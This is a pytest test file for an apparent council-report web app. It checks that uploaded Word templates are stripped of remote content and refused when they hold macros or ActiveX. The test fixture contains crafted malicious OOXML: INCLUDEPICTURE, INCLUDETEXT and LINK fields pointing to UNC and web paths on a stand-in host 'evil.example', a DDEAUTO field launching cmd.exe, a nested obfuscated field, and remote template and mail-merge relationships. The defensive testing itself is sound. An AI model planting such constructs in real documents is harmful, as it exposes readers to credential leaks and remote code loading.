"""Malicious council templates, made by hand: remote content is stripped when the template
is uploaded and again when a paper is written from it (a template stored before the check
is cleaned too), and macros or active content are refused with a clear reason."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from paper_support import small_plan

from actionplan.plans.models import Body
from actionplan.reports import services
from actionplan.reports.building import build_paper
from actionplan.reports.council_template import TemplateError, clean_template
from actionplan.reports.models import Paper
from actionplan.reports.word import render_docx

pytestmark = pytest.mark.django_db
MARCH = dt.date(2013, 3, 15)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "evil.example"


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def field(instruction: str, result: str = "LOGO") -> str:
    """A field over runs, as Word writes one: begin, instruction, separate, result, end."""
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + run(f'<w:instrText xml:space="preserve">{instruction}</w:instrText>')
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run(f"<w:t>{result}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )


NESTED = (  # { {QUOTE "INCLUDE"}PICTURE "\\evil\x" }: the keyword built by a field
    run('<w:fldChar w:fldCharType="begin"/>')
    + field('QUOTE "INCLUDE"', "INCLUDE")
    + run(f'<w:instrText>PICTURE "\\\\{EVIL}\\x.png"</w:instrText>')
    + run('<w:fldChar w:fldCharType="separate"/>')
    + run("<w:t>nested result</w:t>")
    + run('<w:fldChar w:fldCharType="end"/>')
)
HEADER_ATTACKS = (
    field(f'INCLUDEPICTURE "\\\\{EVIL}\\share\\logo.png" \\d')
    + field(f'includetext "https://{EVIL}/t.docx"', "included")
    + field(f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc {EVIL}"', "dde")
    + f'<w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\{EVIL}\\a.xls&quot; "><w:r><w:t>linked</w:t></w:r></w:fldSimple>'
    + NESTED
    + '<w:hyperlink r:id="rIdLink"><w:r><w:t>our website</w:t></w:r></w:hyperlink>'
    + f'<w:r><w:pict><v:shape><v:imagedata src="\\\\{EVIL}\\img.png" o:href="http://{EVIL}/i.png"/></v:shape></w:pict></w:r>'
    + run('<w:drawing><a:blip r:embed="rIdLogo" r:link="rIdPic"/></w:drawing>')
    + field(" PAGE ", "1")
    + field(" NUMPAGES ", "18")
)
NAMESPACES = {
    "w": W_NS,
    "r": R_NS,
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
}


def _rewrite(data: bytes, change, extra: dict[str, bytes] | None = None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info)))
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{TYPES}/{kind}" Target="{target}"{mode}/>'


def malicious_template() -> bytes:
    """A template with every way a Word file fetches, in its header, settings and web
    settings, beside an honest header text and page numbers."""
    doc = Document()
    doc.sections[0].header.paragraphs[0].text = "Anyshire Council · OFFICIAL"
    doc.add_paragraph("Replace this text with the report.")
    out = io.BytesIO()
    doc.save(out)
    names = zipfile.ZipFile(out).namelist()
    header = next(n for n in names if re.fullmatch(r"word/header\d*\.xml", n))
    header_rels = f"word/_rels/{header.split('/')[-1]}.rels"
    links = _rel("rIdLink", "hyperlink", f"https://{EVIL}/") + _rel(
        "rIdPic", "image", f"\\\\{EVIL}\\pic.png"
    )

    def change(name: str, content: bytes) -> bytes:
        if not name.endswith((".xml", ".rels")):
            return content
        text = content.decode()
        if name == header:
            missing = " ".join(
                f'xmlns:{prefix}="{uri}"'
                for prefix, uri in NAMESPACES.items()
                if f"xmlns:{prefix}=" not in text
            )
            text = text.replace("<w:hdr ", f"<w:hdr {missing} ", 1)
            text = text.replace("</w:p>", HEADER_ATTACKS + "</w:p>", 1)
        if name == header_rels:
            text = text.replace("</Relationships>", links + "</Relationships>")
        if name == "word/settings.xml":
            text = text.replace(
                "<w:zoom",
                '<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType '
                'w:val="formLetters"/><w:dataSource r:id="rIdData"/></w:mailMerge><w:zoom',
                1,
            )
        if name == "word/webSettings.xml":
            text = text.replace(
                "</w:webSettings>",
                '<w:frameset><w:frame><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>'
                "</w:webSettings>",
            )
        return text.encode()

    rels = {
        "word/_rels/settings.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
            + _rel("rIdT", "attachedTemplate", f"https://{EVIL}/template.dotm")
            + _rel("rIdData", "mailMergeSource", f"file:///\\\\{EVIL}\\data.mdb")
            + "</Relationships>"
        ).encode(),
        "word/_rels/webSettings.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">'
            + _rel("rIdFrame", "frame", f"https://{EVIL}/frame.html")
            + "</Relationships>"
        ).encode(),
    }
    if header_rels not in names:
        rels[header_rels] = (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{links}'
            "</Relationships>"
        ).encode()
    return _rewrite(out.getvalue(), change, rels)


def everything(docx_bytes: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


def assert_fetches_nothing(docx_bytes: bytes) -> None:
    text = everything(docx_bytes)
    assert EVIL not in text
    assert 'TargetMode="External"' not in text
    for word in ("INCLUDEPICTURE", "includetext", "DDEAUTO", "LINK Excel", "QUOTE", "PICTURE"):
        assert word not in text, word
    for element in ("attachedTemplate", "mailMerge", "frameset", "r:link"):
        assert (f"<w:{element}" not in text and element != "r:link") or "r:link=" not in text


def test_the_malicious_template_is_what_it_claims():
    text = everything(malicious_template())

    assert text.count('TargetMode="External"') == 5
    assert "INCLUDEPICTURE" in text and "DDEAUTO" in text and EVIL in text
    Document(io.BytesIO(malicious_template()))  # Word (and python-docx) open it


def test_cleaning_strips_every_remote_reference_and_fetching_field_and_keeps_the_rest():
    cleaned = clean_template(malicious_template())

    assert_fetches_nothing(cleaned.content)
    assert sorted(cleaned.relationships) == [
        "attachedTemplate",
        "frame",
        "hyperlink",
        "image",
        "mailMergeSource",
    ]
    assert {"INCLUDEPICTURE", "INCLUDETEXT", "DDEAUTO", "LINK", "QUOTE"} <= set(cleaned.fields)
    header = Document(io.BytesIO(cleaned.content)).sections[0].header.paragraphs[0]
    # Its text, the link's text, the fields' last results and the page numbers stay.
    assert header.text.startswith("Anyshire Council · OFFICIAL")
    assert "our website" in header.text and "LOGO" in header.text
    xml = everything(cleaned.content)
    assert " PAGE " in xml and " NUMPAGES " in xml
    assert clean_template(cleaned.content).content == cleaned.content  # nothing more to do


def test_a_paper_written_from_a_template_stored_before_the_check_fetches_nothing():
    plan = small_plan()
    body = Body.objects.get(abbreviation="SMT")
    data = build_paper(plan, body, MARCH)

    paper = render_docx(data, draft=True, template=malicious_template())

    assert_fetches_nothing(paper)
    assert (
        "Anyshire Council · OFFICIAL"
        in Document(io.BytesIO(paper)).sections[0].header.paragraphs[0].text
    )


def test_an_uploaded_template_is_stored_clean_and_the_issued_paper_fetches_nothing(
    client, personas
):
    from actionplan.plans.models import Body as PlanBody

    body = PlanBody.objects.filter(organisation=personas.plan.organisation).first()
    client.force_login(personas.improvement_lead)
    today = dt.date.today()
    response = client.post(
        reverse("reports:new_paper", args=[personas.plan.pk]),
        {
            "body": str(body.pk),
            "as_at_day": str(today.day),
            "as_at_month": str(today.month),
            "as_at_year": str(today.year),
            "template": SimpleUploadedFile("council.docx", malicious_template()),
        },
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    paper = Paper.objects.get()
    assert_fetches_nothing(bytes(paper.template))
    issued = services.issue_paper(paper)
    assert_fetches_nothing(services.paper_file(issued, "docx").content)


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_MAIN = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _with_types(old: str, new: str, extra: dict[str, bytes] | None = None) -> bytes:
    doc = io.BytesIO()
    Document().save(doc)

    def change(name: str, content: bytes) -> bytes:
        return (
            content.replace(old.encode(), new.encode())
            if name == "[Content_Types].xml"
            else content
        )

    return _rewrite(doc.getvalue(), change, extra)


@pytest.mark.parametrize(
    "template",
    [
        _with_types(DOCX_MAIN, MACRO_MAIN),
        _with_types(DOCX_MAIN, TEMPLATE_MAIN),
        _with_types("</Types>", "</Types>", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}),
        _with_types(
            "</Types>",
            '<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/></Types>',
            {"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x"/>'},
        ),
        _with_types(
            "</Types>", "</Types>", {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}
        ),
    ],
    ids=["docm", "dotm", "vba project", "activex", "ole object"],
)
def test_a_template_with_macros_or_active_content_is_refused(template, client, personas):
    with pytest.raises(TemplateError, match="holds macros or active content"):
        clean_template(template, "council.docx")

    client.force_login(personas.improvement_lead)
    response = client.post(
        reverse("reports:new_paper", args=[personas.plan.pk]),
        {"template": SimpleUploadedFile("council.docx", template)},
    )
    errors = [i["text"] for i in response.context["form"].error_summary_items()]
    assert any(
        e.startswith("The template council.docx holds macros or active content") for e in errors
    )
    assert not Paper.objects.exists()


def test_a_header_hidden_under_another_name_is_cleaned_too():
    """Word finds a part by its relationship and content type, whatever it is called."""
    template = malicious_template()
    header = next(
        n
        for n in zipfile.ZipFile(io.BytesIO(template)).namelist()
        if re.fullmatch(r"word/header\d*\.xml", n)
    )
    short = header.removeprefix("word/")
    source = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            name = info.filename
            if name == header:
                name = "word/letterhead.dat"
            elif name == f"word/_rels/{short}.rels":
                name = "word/_rels/letterhead.dat.rels"
            elif name in ("[Content_Types].xml", "word/_rels/document.xml.rels"):
                content = content.replace(short.encode(), b"letterhead.dat")
            target.writestr(name, content)
    renamed = out.getvalue()
    assert "INCLUDEPICTURE" in everything(renamed)

    cleaned = clean_template(renamed).content

    assert_fetches_nothing(cleaned)
    assert "Anyshire Council" in Document(io.BytesIO(cleaned)).sections[0].header.paragraphs[0].text
